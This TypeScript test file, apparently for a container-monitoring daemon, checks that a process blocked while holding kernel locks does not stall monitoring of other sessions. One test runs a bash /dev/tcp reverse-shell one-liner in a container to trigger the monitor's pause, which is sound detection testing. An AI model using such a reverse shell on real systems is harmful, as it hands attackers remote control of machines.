// Goal: a container that blocks kernel reads about one of its processes delays nothing else: coid answers,
// other sessions are monitored, and the failed read is reported.
// Method: raw FUSE servers in Perl, which every image has, with a process that waits for them while it
// holds its memory or exec lock; and a separate reader as the control, which has to be killed.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { join } from 'node:path';
import { test } from 'node:test';
import { runSuspectReader } from '../../src/daemon/monitor/suspect.ts';
import { defaultSettings } from '../../src/monitor/settings.ts';
import { blockingServers, blockProcess, isReadable } from '../bed/blocked-process.ts';
import { coiPath } from '../bed/program.ts';
import { slowdown } from '../bed/slowdown.ts';
import { type CoidBed, makeCoidBed } from '../incus/coid-bed.ts';
import { startAttacker } from './attacker.ts';
import { untilAudited } from './audited.ts';

const limit = { timeout: 180_000 };
const watched = (pauseOnHigh: boolean) => ({
  'user.coi.monitor': JSON.stringify({ ...defaultSettings, pauseOnHigh }),
});

for (const lock of ['memory', 'exec'] as const) {
  const { file, script } = blockingServers[lock];
  test(
    `a process blocked on its container with its ${lock} lock held delays no other session`,
    limit,
    async () => {
      await using bed = await makeCoidBed();
      const one = await bed.session({ config: watched(false) });
      const other = await bed.session({ config: watched(true) });
      for (const { container } of [one, other])
        await untilAudited(bed.coid, container, ({ action }) => action === 'watch-started');
      await using held = await blockProcess(bed.incus, one.container, script);
      assert.equal(await isReadable(held.pid, file), false, 'the control');
      const slowestMs = await slowestAnswer(bed);
      assert.ok(slowestMs < 1000 * (await slowdown()), `${Math.round(slowestMs)} ms`);
      await using remote = await startAttacker();
      const shell = `bash -c "bash -i >& /dev/tcp/${other.nic.gateway}/${remote.port} 0>&1"`;
      const paused = bed.lifecycle.until('instance-paused', other.container);
      await bed.sh(other.container, `setsid sh -c '${shell}' >/dev/null 2>&1 </dev/null &`);
      await paused;
      await untilAudited(bed.coid, one.container, ({ description }) =>
        /keeps coid from reading command lines/.test(description),
      );
    },
  );
}

test('a process blocked in an exec costs the evidence only its program', limit, async () => {
  await using bed = await makeCoidBed();
  const { container } = await bed.session();
  await using held = await blockProcess(bed.incus, container, blockingServers.exec.script);
  assert.equal(await isReadable(held.pid, 'io'), false, 'the control');
  const directory = await bed.directory(0);
  const startedMs = performance.now();
  const { copied, maps } = await runSuspectReader(
    [coiPath()],
    held.pid,
    join(directory, 'program'),
  );
  const tookMs = performance.now() - startedMs;
  assert.equal(copied.kept, 'none');
  assert.match(copied.reason ?? '', /too long/);
  assert.equal(maps, undefined);
  assert.ok(tookMs < 15_000 * (await slowdown()), `${Math.round(tookMs)} ms`);
});

test(
  'reading a link of a blocked process does not block other reads or the exit',
  limit,
  async () => {
    await using bed = await makeCoidBed();
    const { container } = await bed.session();
    await using held = await blockProcess(bed.incus, container, blockingServers.exec.script);
    const script = (end: string) => `
    const { LinkThreads } = await import(${JSON.stringify(hostPart('proc/proc-links.ts'))});
    const { loadLibc } = await import(${JSON.stringify(hostPart('linux/load-libc.ts'))});
    const threads = new LinkThreads();
    const libc = await loadLibc();
    const read = threads.read(['/proc/${held.pid}/exe'], 1000);
    const own = threads.read(['/proc/self/exe'], 5000);
    process.stdout.write(JSON.stringify({ read, own, held: threads.hasBlocked }));
    ${end}`;
    const direct = await runNode(
      `(await import('node:fs')).readlinkSync('/proc/${held.pid}/exe');`,
    );
    // Kernel-dependent: if a direct read returns, so does that of the thread.
    const hangs = direct.status === undefined;
    const plain = await runNode(script(''));
    assert.equal(plain.status, hangs ? undefined : 0, 'an end in good order waits for the thread');
    const { status, stdout } = await runNode(script('libc.exit(0);'));
    assert.equal(status, 0);
    const { read, own, held: areHeld } = JSON.parse(stdout);
    assert.equal(Array.isArray(read), !hangs);
    assert.deepEqual([own, areHeld], [[process.execPath], hangs]);
  },
);

function hostPart(name: string): string {
  return new URL(`../../src/host/${name}`, import.meta.url).href;
}

/** Runs a Node program; it is killed after some seconds, and has no status then. */
async function runNode(script: string): Promise<{ status: number | undefined; stdout: string }> {
  const argv = ['--input-type=module', '-e', script];
  const child = spawn(process.execPath, argv, { stdio: ['ignore', 'pipe', 'inherit'] });
  let stdout = '';
  child.stdout.setEncoding('utf8').on('data', (text: string) => {
    stdout += text;
  });
  const limitMs = 5000 * (await slowdown());
  const timer = setTimeout(() => child.kill('SIGKILL'), limitMs);
  const [status] = (await once(child, 'close')) as [number | null];
  clearTimeout(timer);
  return { status: status ?? undefined, stdout };
}

/** During some samples of both sessions. */
async function slowestAnswer({ coid }: CoidBed): Promise<number> {
  let slowestMs = 0;
  const endMs = performance.now() + 6000;
  while (performance.now() < endMs) {
    const startedMs = performance.now();
    await coid.status();
    slowestMs = Math.max(slowestMs, performance.now() - startedMs);
  }
  return slowestMs;
}
